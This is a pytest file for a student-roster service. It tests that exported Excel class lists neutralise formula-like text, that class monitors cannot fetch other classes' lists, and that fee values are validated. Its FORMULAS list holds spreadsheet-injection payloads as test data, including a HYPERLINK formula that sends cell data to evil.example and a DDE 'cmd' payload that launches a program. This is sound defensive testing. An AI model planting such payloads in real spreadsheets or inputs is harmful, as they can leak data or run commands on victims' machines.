"""Exports under attack (issue 7, part 8): formula-like text stays inert in every spreadsheet roster writes, a class
monitor cannot download another class's list, and fees are non-negative integer fen with a ceiling."""

from __future__ import annotations

import io
from datetime import UTC, datetime

import jwt
import pytest
from openpyxl import load_workbook

from services.kernel.inert import inert_text
from services.roster.documents import ClassList, ClassListRow, ReviewedRow, class_list_xlsx, reviewed_list_xlsx
from services.roster.imports.annotate import annotated_workbook
from services.roster.imports.rosterfile import read_roster
from tests.roster.import_.people import COL, people, xlsx_bytes
from tests.support.api import Api

FORMULAS = ['="1"&HYPERLINK("x")', '=HYPERLINK("http://evil.example/?x="&A1,"点我")', "=cmd|' /C calc'!A0",
            "+SUM(1,2)", "-2+3+cmd|x", "@SUM(1,2)", "＝1+1", "\t=1+1"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def _live_formulas(data: bytes) -> list[str]:
    """Cells a spreadsheet program would evaluate: a formula cell, or text that starts like one."""
    wb = load_workbook(io.BytesIO(data))
    found = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f" or (isinstance(cell.value, str) and cell.value.startswith(TRIGGERS)):
                    found.append(f"{ws.title}!{cell.coordinate}={cell.value!r}")
    return found


def test_the_helper_prefixes_formulas_and_leaves_plain_text_and_numbers() -> None:
    for text in FORMULAS:
        assert inert_text(text) == "'" + text
    for text in ("王明", "计算机科学与技术", "-5", "+86 138 0000 0000", "3.5", "'=1", "", '="36010220000101001X"'):
        assert inert_text(text) == text


def test_class_lists_keep_formula_names_inert() -> None:
    rows = [ClassListRow(order=i + 1, id_number_masked="3601**************", name=f, sex="男", college=f, major=f,
                         class_no="2022001", level="本科") for i, f in enumerate(FORMULAS)]
    cl = ClassList(school_code="10403", school_name="=1+1", college="@SUM(1)", class_no="2022001",
                   class_name="+cmd|x", rows=rows)
    data = class_list_xlsx([cl], fee_yuan=30)
    assert _live_formulas(data) == []
    wb = load_workbook(io.BytesIO(data))
    assert wb.worksheets[0]["C5"].value == "'" + FORMULAS[1]  # kept, readable, inert


def test_the_reviewed_list_keeps_formula_text_inert() -> None:
    rows = [ReviewedRow(student_no=f"40161220{i:02d}", name=f, sex="女", id_number_masked="3601**************",
                        college=f, major=f, level="硕士研究生", class_no=f, status="不通过", reason=f, decided_by=f,
                        decided_at=datetime(2026, 3, 31, tzinfo=UTC)) for i, f in enumerate(FORMULAS)]
    assert _live_formulas(reviewed_list_xlsx("10403", "=1+1", "2026", rows)) == []


def test_the_annotated_workbook_keeps_the_registrars_formula_text_inert() -> None:
    rows = [p.row("10403") for p in people(len(FORMULAS))]
    for row, formula in zip(rows, FORMULAS, strict=True):
        row[COL["专业名称"]] = formula
        row[COL["学院"]] = formula
    sheet = read_roster(xlsx_bytes(rows), "r.xlsx")
    assert _live_formulas(annotated_workbook(sheet, [])) == []


def _monitor_class(api: Api) -> str:
    return str(jwt.decode(api.token("monitor10403"), options={"verify_signature": False})["cls"])


def test_a_class_monitor_cannot_download_another_class_list(embedded: Api) -> None:
    own = _monitor_class(embedded)
    classes = embedded.get("/api/roster/v1/classes", "school10403").json()["items"]
    other = next(c["id"] for c in classes if c["id"] != own)
    refused = embedded.get("/api/roster/v1/class-lists.xlsx", "monitor10403", params={"class_id": other})
    assert refused.status_code == 404 and refused.json()["code"] == "classes_not_found"
    mine = embedded.get("/api/roster/v1/class-lists.xlsx", "monitor10403")
    assert mine.status_code == 200
    wb = load_workbook(io.BytesIO(mine.content))
    assert len(wb.worksheets) == 1 and "共 0 人" not in str(wb.worksheets[0]["A2"].value)
    assert embedded.get("/api/roster/v1/class-lists.xlsx", "monitor10403",
                        params={"class_id": own}).status_code == 200


@pytest.mark.parametrize("params", [{"fee_yuan": -5}, {"fee_fen": -1}, {"fee_fen": 10**6 + 1}, {"fee_yuan": 10**5},
                                    {"fee_fen": "12.5"}, {"fee_fen": 2**63}])
def test_fees_must_be_non_negative_integer_fen_under_a_ceiling(embedded: Api, params: dict) -> None:
    response = embedded.get("/api/roster/v1/class-lists.xlsx", "school10403", params=params)
    assert response.status_code == 422, response.text[:200]


def test_a_fee_in_fen_prints_in_yuan(embedded: Api) -> None:
    response = embedded.get("/api/roster/v1/class-lists.xlsx", "school10403", params={"fee_fen": 2550})
    assert response.status_code == 200
    ws = load_workbook(io.BytesIO(response.content)).worksheets[0]
    assert ws["H4"].value == 25.5
